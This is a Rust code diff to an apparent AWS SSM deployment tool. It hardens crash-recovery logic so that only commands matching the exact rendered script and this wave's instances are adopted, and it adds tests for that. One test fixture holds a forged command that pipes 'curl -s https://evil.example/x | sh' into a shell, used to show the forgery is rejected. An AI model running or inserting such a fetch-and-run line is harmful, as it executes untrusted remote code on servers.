@@ -538,7 +538,10 @@ impl<E: Edges> Deployer<E> {
             Err(r) => return rejected(r),
         };
 
-        // 6. After a crashed attempt, adopt the commands it sent but could not record.
+        // 6. After a crashed attempt, adopt the commands it sent but could not record: only
+        // a command whose script is, byte for byte, the one this attempt renders (version,
+        // digest, app root, settings: the same command) and that went to this wave's
+        // instances. Anyone with ssm:SendCommand can copy the Comment and the version line.
         if takeover {
             let since = plan::adoption_window_start(record, OffsetDateTime::now_utc());
             for (batch, script) in self.edges.commands_since(since, &full_plan.comment).await? {
@@ -546,7 +549,7 @@ impl<E: Edges> Deployer<E> {
                     .commands
                     .iter()
                     .any(|c| c.command_id == batch.command_id);
-                if !known && plan::script_is_for_version(&script, version) {
+                if !known && plan::is_adoptable(&script, &batch, &full_plan.script, &wave0) {
                     info!(command_id = %batch.command_id, "adopting a command sent by an earlier attempt");
                     self.index_command(bucket, record, &batch.command_id, Purpose::Deploy)
                         .await?;
@@ -799,29 +802,49 @@ mod tests {
             claimed_by_other("2026-11-23T09:05:00Z", vec![recorded]).to_bytes(),
         );
         let comment = plan::comment(&request(), COMMIT);
-        let script_for =
-            |version: &str| shell::render_exports(&[(HostVar::VersionId.name(), version)]).unwrap();
-        let unrecorded = CommandBatch {
-            command_id: "cmd-unrecorded".into(),
-            instance_ids: vec!["i-2".into()],
-            purpose: Purpose::Deploy,
-        };
-        let other_version = CommandBatch {
-            command_id: "cmd-other-version".into(),
-            instance_ids: vec!["i-3".into()],
+        // The script this version's command has (what a fresh attempt sends).
+        let (_, fresh) = handle_with(
+            config_with("100%"),
+            FakeAws::with_instances(&["i-1", "i-2", "i-3", "i-4"]),
+        )
+        .await;
+        let ours = fresh.edges.sent.lock().unwrap()[0].1.clone();
+        let version_line = shell::render_exports(&[(HostVar::VersionId.name(), VERSION)]).unwrap();
+        assert!(ours.contains(&version_line));
+        let batch = |id: &str, instance: &str| CommandBatch {
+            command_id: id.into(),
+            instance_ids: vec![instance.into()],
             purpose: Purpose::Deploy,
         };
         fake.earlier = vec![
-            (unrecorded, script_for(VERSION), comment.clone()),
-            (other_version, script_for("v1"), comment),
+            (
+                batch("cmd-unrecorded", "i-2"),
+                ours.clone(),
+                comment.clone(),
+            ),
+            (
+                batch("cmd-other-version", "i-3"),
+                ours.replace(&version_line, "export DROPSHIP_VERSION_ID='v1'\n"),
+                comment.clone(),
+            ),
+            // Someone with ssm:SendCommand: dropship's Comment and the version line, their
+            // own script.
+            (
+                batch("cmd-forged", "i-4"),
+                format!("{version_line}curl -s https://evil.example/x | sh\n"),
+                comment.clone(),
+            ),
+            // Our script, but sent to an instance outside this wave.
+            (batch("cmd-elsewhere", "i-9"), ours, comment),
         ];
+        fake.instances.lock().unwrap().push("i-4".into());
         // One wave of every host: the crashed attempt was sending it.
         let (result, d) = handle_with(config_with("100%"), fake).await;
         assert_eq!(result.unwrap().outcome, Outcome::Dispatched);
         assert_eq!(
             d.edges.sent_to(),
-            ["i-3"],
-            "i-1 and i-2 already have the command"
+            ["i-3", "i-4"],
+            "i-1 and i-2 already have the command; the forged one is not adopted"
         );
         let record = stored_record(&d.edges);
         assert_eq!(
